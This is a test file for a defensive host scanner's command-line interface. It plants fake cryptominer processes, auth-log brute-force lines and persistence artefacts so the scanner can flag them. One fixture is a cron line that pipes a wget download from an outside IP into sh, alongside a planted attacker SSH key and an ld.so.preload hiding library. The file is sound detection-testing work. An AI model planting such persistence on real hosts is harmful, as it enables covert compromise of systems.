import { spawnSync } from 'node:child_process';
import { mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { BIN, REPO_ROOT, runCli } from '../helpers/cli.js';
import { FakeRoot, tcp4Line } from '../helpers/fake-proc.js';

describe('scan command line', () => {
  it('exits 2 with a coded one-line error for a bad --root', async () => {
    const r = await runCli(['scan', '--root', '/nonexistent-root-dir']);
    expect(r.code).toBe(2);
    expect(r.stderr.trim().split('\n')).toHaveLength(1);
    expect(r.stderr).toMatch(/MW_ROOT_INVALID.*--root/);
  });

  it('exits 2 on usage errors', async () => {
    expect((await runCli(['scan', '--format', 'xml'])).code).toBe(2);
    expect((await runCli(['scan', '--interval', '-5'])).code).toBe(2);
    expect((await runCli(['scan', '--bogus'])).code).toBe(2);
  });

  it('prints ndjson, one finding per line, and a table with the host summary', async () => {
    const fake = new FakeRoot()
      .add({ pid: 1, comm: 'init', argv: ['/sbin/init'], exe: '/sbin/init' })
      .add({
        pid: 77,
        comm: 'xmrig',
        argv: ['/tmp/xmrig', '--donate-level', '1'],
        exe: '/tmp/xmrig',
        sockets: [5],
      })
      .netTable('tcp', [tcp4Line(0, '10.1.1.1', 50000, '198.51.100.9', 14444, '01', 5)]);
    try {
      const nd = await runCli(['scan', '--root', fake.root, '--format', 'ndjson', '--interval', '0']);
      expect(nd.code).toBe(1);
      const lines = nd.stdout
        .trim()
        .split('\n')
        .map((l) => JSON.parse(l) as { type: string; ruleId: string });
      expect(lines.filter((l) => l.type === 'incident')).toHaveLength(1);
      expect(
        lines
          .filter((l) => l.type === 'finding')
          .map((l) => l.ruleId)
          .sort(),
      ).toEqual([
        'miner.cmdline',
        'net.miner-port',
        'net.writable-path-connection',
        'proc.exe.writable-path',
      ]);
      const table = await runCli(['scan', '--root', fake.root, '--interval', '0']);
      expect(table.stdout).toContain('Host fakehost');
      expect(table.stdout).toContain('198.51.100.9:14444');
      expect(table.stdout).toMatch(/CRITICAL\s+miner\.cmdline\s+pid 77 \/tmp\/xmrig/);
    } finally {
      fake.cleanup();
    }
  });

  it('runs without root and says what it could not see', () => {
    // uid/gid 65534 is "nobody" on Debian; the checkout must be world-readable, as a normal clone is.
    const r = spawnSync(process.execPath, [BIN, 'scan', '--format', 'json', '--interval', '0'], {
      cwd: REPO_ROOT,
      uid: 65534,
      gid: 65534,
      encoding: 'utf8',
      maxBuffer: 256 * 1024 * 1024,
    });
    expect(r.stderr).toBe('');
    const out = JSON.parse(r.stdout) as { warnings: Array<{ code: string }>; summary: { processes: number } };
    expect(out.summary.processes).toBeGreaterThan(1);
    expect(out.warnings.map((w) => w.code)).toContain('MW_W_NOT_ROOT');
    expect(out.warnings.map((w) => w.code)).toContain('MW_W_PROC_UNREADABLE');
  });

  it('prints the field table', async () => {
    const r = await runCli(['fields', '--format', 'json']);
    const fields = JSON.parse(r.stdout) as Array<{ name: string; sigma: string[] }>;
    expect(fields.find((f) => f.name === 'process.exe')?.sigma).toContain('Image');
  });
});

describe('scan sweeps persistence under --root', () => {
  it('finds a cron dropper, an attacker key and a preload, and ties the cron line to the running miner', async () => {
    const fake = new FakeRoot().add({ pid: 1, comm: 'init', argv: ['/sbin/init'], exe: '/sbin/init' }).add({
      pid: 4000,
      ppid: 1,
      comm: 'kdevtmpfsi',
      argv: ['/tmp/.k/kdevtmpfsi'],
      exe: '/tmp/.k/kdevtmpfsi',
    });
    const plant = (path: string, content: string): void => {
      mkdirSync(join(fake.root, path, '..'), { recursive: true });
      writeFileSync(join(fake.root, path), content);
    };
    plant(
      'var/spool/cron/crontabs/root',
      '* * * * * wget -q -O - http://198.51.100.7/k.sh | sh\n@reboot /tmp/.k/kdevtmpfsi\n',
    );
    plant('root/.ssh/authorized_keys', 'ssh-rsa AAAAB3NzaC1yc2E mdrfckr\n');
    plant('etc/ld.so.preload', '/usr/local/lib/libhide.so\n');
    try {
      const r = await runCli(['scan', '--root', fake.root, '--format', 'json', '--interval', '0']);
      expect(r.code).toBe(1);
      const out = JSON.parse(r.stdout) as {
        findings: Array<{ ruleId: string; entity: { path?: string }; incidentId?: string }>;
        incidents: Array<{ id: string; stages: string[] }>;
      };
      const rules = out.findings.map((f) => f.ruleId);
      expect(rules).toEqual(
        expect.arrayContaining([
          'persist.download-exec',
          'persist.exec-from-writable-path',
          'persist.ssh.known-bad-key',
          'evasion.ld-preload',
          'proc.exe.writable-path',
        ]),
      );
      const cron = out.findings.find((f) => f.ruleId === 'persist.exec-from-writable-path');
      const proc = out.findings.find((f) => f.ruleId === 'proc.exe.writable-path');
      expect(cron?.incidentId).toBeDefined();
      expect(cron?.incidentId).toBe(proc?.incidentId);
      expect(out.incidents.find((i) => i.id === cron?.incidentId)?.stages).toEqual([
        'execution',
        'persistence',
        'defense-evasion',
      ]);
    } finally {
      fake.cleanup();
    }
  });
});

describe('scan reads the host auth log', () => {
  it('reports SSH brute force and a login after failures from /var/log/auth.log under --root', async () => {
    const fake = new FakeRoot().add({ pid: 1, comm: 'init', argv: ['/sbin/init'], exe: '/sbin/init' });
    const lines: string[] = [];
    for (let i = 0; i < 8; i++) {
      lines.push(
        `Nov 26 04:10:${String(10 + i).padStart(2, '0')} web1 sshd[${900 + i}]: Failed password for root from 203.0.113.50 port ${40000 + i} ssh2`,
      );
    }
    lines.push(
      'Nov 26 04:10:30 web1 sshd[950]: Accepted password for root from 203.0.113.50 port 40100 ssh2',
    );
    mkdirSync(join(fake.root, 'var/log'), { recursive: true });
    writeFileSync(join(fake.root, 'var/log/auth.log'), `${lines.join('\n')}\n`);
    try {
      const r = await runCli(['scan', '--root', fake.root, '--format', 'json', '--interval', '0']);
      const out = JSON.parse(r.stdout) as { findings: Array<{ ruleId: string; entity: { ip?: string } }> };
      const ssh = out.findings.filter((f) => f.ruleId.startsWith('ssh.'));
      expect(ssh.map((f) => f.ruleId)).toEqual(
        expect.arrayContaining(['ssh.brute-force', 'ssh.success-after-failures']),
      );
      for (const f of ssh) expect(f.entity.ip).toBe('203.0.113.50');
      const skipped = await runCli([
        'scan',
        '--root',
        fake.root,
        '--format',
        'json',
        '--interval',
        '0',
        '--no-logs',
      ]);
      expect(
        (JSON.parse(skipped.stdout) as { findings: Array<{ ruleId: string }> }).findings.filter((f) =>
          f.ruleId.startsWith('ssh.'),
        ),
      ).toEqual([]);
    } finally {
      fake.cleanup();
    }
  });
});
